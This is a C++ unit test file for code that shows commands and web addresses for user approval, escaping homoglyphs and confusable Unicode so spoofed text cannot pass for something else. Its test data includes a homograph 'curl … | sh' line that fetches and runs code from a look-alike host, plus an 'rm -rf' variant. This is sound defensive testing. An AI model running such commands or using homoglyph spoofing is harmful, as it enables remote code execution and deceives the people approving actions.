#include "platform/VisibleText.h"
#include "platform/WebAddress.h"

#include <QHash>

#include <unicode/uspoof.h>

#include <memory>
#include <random>

#include "support/Bytes.h"

#include <gtest/gtest.h>

using namespace Qt::StringLiterals;

// The command of a screen file whose Cyrillic "а" draws as the Latin one would fetch from
// another host than it reads; the two spellings of "café" are other bytes to the shell.
TEST(ApprovalText, ALetterThatPassesForAnotherIsWrittenOut)
{
    EXPECT_EQ(approvalText(u"curl -s https://ex\u0430mple.com/i | sh"_s), u"curl -s https://ex\\u0430mple.com/i | sh"_s);
    EXPECT_EQ(approvalText(u"touch caf\u00E9"_s), u"touch caf\u00E9"_s);
    EXPECT_EQ(approvalText(u"touch cafe\u0301"_s), u"touch cafe\\u0301"_s);
    // A Latin-script letter that reads as ASCII, a word of letters that all do, a mark hidden
    // in the dot of an "i", a sign with a canonical twin, typographic quotes and dashes.
    EXPECT_EQ(approvalText(u"ex\u0251mple \u0441\u043E\u0441\u043E pi\u0307ng \u212B echo a\u037Eb"_s),
              u"ex\\u0251mple \\u0441\\u043E\\u0441\\u043E pi\\u0307ng \\u212B echo a\\u037Eb"_s);
    EXPECT_EQ(approvalText(u"rm \u2010rf \u2019x\u2019 \u201Cy\u201D"_s), u"rm \\u2010rf \\u2019x\\u2019 \\u201Cy\\u201D"_s);
    // Words of one writing system show as they are, also where it mixes scripts itself.
    for (const QString& kept : {u"M\u00FCller na\u00EFve"_s, u"\u6F22\u5B57\u304B\u306A"_s, u"Tokyo\u306E"_s,
                                u"\u043C\u0430\u043C\u0430 \u043F\u0430\u043F\u0430"_s, u"\uD55C\uAE00"_s})
        EXPECT_EQ(approvalText(kept), kept) << kept.toStdString();
    // The quotes around a quoted text cannot be closed from inside it.
    EXPECT_EQ(approvalQuote(u"a\u201D then \u201Cb"_s), u"\u201Ca\\u201D then \\u201Cb\u201D"_s);
    EXPECT_EQ(quotedTitle(u"Play \u201C\u2764\uFE0F\u201D"_s), u"\u201CPlay \\u201C\u2764\uFE0F\\u201D\u201D"_s);
    EXPECT_TRUE(showsLookAlikes(u"ex\u0430mple"_s));
    EXPECT_FALSE(showsLookAlikes(u"top -bn1 \u00E9\n"_s));
}

namespace {

struct SpoofChecker {
    void operator()(USpoofChecker* checker) const { uspoof_close(checker); }
};

// What a text reads as, by UTS #39: texts with one skeleton are confusable.
QString skeleton(const QString& text)
{
    static const std::unique_ptr<USpoofChecker, SpoofChecker> checker = [] {
        UErrorCode status = U_ZERO_ERROR;
        return std::unique_ptr<USpoofChecker, SpoofChecker>(uspoof_open(&status));
    }();
    UErrorCode status = U_ZERO_ERROR;
    const int32_t length = uspoof_getSkeleton(checker.get(), 0, reinterpret_cast<const UChar*>(text.utf16()),
                                              int32_t(text.size()), nullptr, 0, &status);
    if (length == 0)
        return {};
    QString out(length, Qt::Uninitialized);
    status = U_ZERO_ERROR;
    uspoof_getSkeleton(checker.get(), 0, reinterpret_cast<const UChar*>(text.utf16()), int32_t(text.size()),
                       reinterpret_cast<UChar*>(out.data()), length, &status);
    EXPECT_TRUE(U_SUCCESS(status)) << u_errorName(status);
    return out;
}

}  // namespace

// Two texts that differ never look alike once shown for approval: their confusable skeletons
// differ too. The texts are drawn from letters, marks and signs that pass for each other, in
// words of one script and of several; ASCII that passes for other ASCII ("0" and "O", "rn" and
// "m", "l" and "1") shows as typed and is left out, and so is the backslash, whose escapes are
// read back elsewhere.
TEST(ApprovalText, TextsThatDifferNeverLookAlikeOnceShown)
{
    const QStringList pieces{
        u"a"_s, u"c"_s, u"e"_s, u"o"_s, u"p"_s, u"x"_s, u"y"_s, u"s"_s, u"i"_s, u"l"_s, u"A"_s, u"2"_s, u" "_s,
        u"-"_s, u"."_s, u"/"_s, u";"_s, u"'"_s, u"\u00E9"_s, u"\u00E5"_s, u"\u00C5"_s, u"\u00FC"_s,
        // Cyrillic, Greek and Latin letters that read as ASCII ones.
        u"\u0430"_s, u"\u0435"_s, u"\u043E"_s, u"\u0440"_s, u"\u0441"_s, u"\u0445"_s, u"\u0443"_s, u"\u0455"_s,
        u"\u03BF"_s, u"\u03B1"_s, u"\u0251"_s, u"\u0131"_s, u"\u2113"_s, u"\u01C0"_s, u"\uFF45"_s,
        u"\U0001D41A"_s, u"\U0001D7D0"_s, u"\u0431"_s, u"\u043C"_s,
        // Marks that compose, hide or repeat, and signs with a canonical twin.
        u"\u0301"_s, u"\u0308"_s, u"\u030A"_s, u"\u0307"_s, u"\u0323"_s, u"\u212B"_s, u"\u037E"_s,
        // Punctuation that passes for ASCII, and spaces that do.
        u"\u2010"_s, u"\u2013"_s, u"\u2019"_s, u"\u2018"_s, u"\u201C"_s, u"\u201D"_s, u"\u2026"_s, u"\u00A0"_s,
        u"\u200B"_s, u"n"_s, u"v"_s, u"g"_s, u"k"_s, u"K"_s, u"<"_s, u","_s, u":"_s, u"!"_s,
        u"\u03BD"_s, u"\u0578"_s, u"\u0585"_s, u"\u13AA"_s, u"\u0261"_s, u"\u1D00"_s, u"\u028F"_s, u"\u0660"_s,
        u"\u06F0"_s, u"\u05D5"_s, u"\u01C3"_s, u"\u02D0"_s, u"\uA789"_s, u"\u201A"_s, u"\u2039"_s, u"\u212A"_s,
        u"\u2126"_s, u"\u03A9"_s, u"\u1100"_s, u"\u1161"_s, u"\uAC00"_s, u"\u093C"_s,
        u"\u0627"_s, u"\u0661"_s};
    std::mt19937 random(73);
    std::uniform_int_distribution<qsizetype> pick(0, pieces.size() - 1);
    std::uniform_int_distribution<int> length(0, 8);
    QHash<QString, QString> textOf;
    for (int round = 0; round < 40000; ++round) {
        QString text;
        for (int n = length(random); n > 0; --n)
            text += pieces[pick(random)];
        const QString shown = approvalText(text);
        const QString looks = skeleton(shown);
        const auto seen = textOf.constFind(looks);
        if (seen == textOf.cend()) {
            textOf.insert(looks, text);
            continue;
        }
        ASSERT_EQ(*seen, text) << "both look like \"" << shown.toStdString() << "\"";
    }
}

// An address is shown as it is fetched or opened. (What a button may not open is refused in its
// file, and tested there.)
TEST(WebAddress, AnAddressShowsAsItOpens)
{
    const auto shown = [](const QString& text, AddressUse use) {
        const auto read = readWebAddress(text, use);
        return std::holds_alternative<QUrl>(read) ? shownAddress(std::get<QUrl>(read)) : std::get<QString>(read);
    };
    EXPECT_EQ(shown(u"https://xn--80ak6aa92e.com/"_s, AddressUse::opened),
              u"https://xn--80ak6aa92e.com/ (\\u0430\\u0440\\u0440\\u04CF\\u0435.com)"_s);
    EXPECT_EQ(shown(u"http://0x7f.1/"_s, AddressUse::opened), u"http://127.0.0.1/"_s);
    EXPECT_EQ(shown(u"mailto:a@example.com?subject=hi there"_s, AddressUse::opened),
              u"mailto:a@example.com?subject=hi%20there"_s);
    // A fetch may carry its credentials, and is read strictly.
    EXPECT_EQ(shown(u"https://user:pw@example.com/x"_s, AddressUse::fetched), u"https://user:pw@example.com/x"_s);
    EXPECT_EQ(shown(u"https://example.com/a b"_s, AddressUse::fetched), u"must be an http or https URL"_s);
}
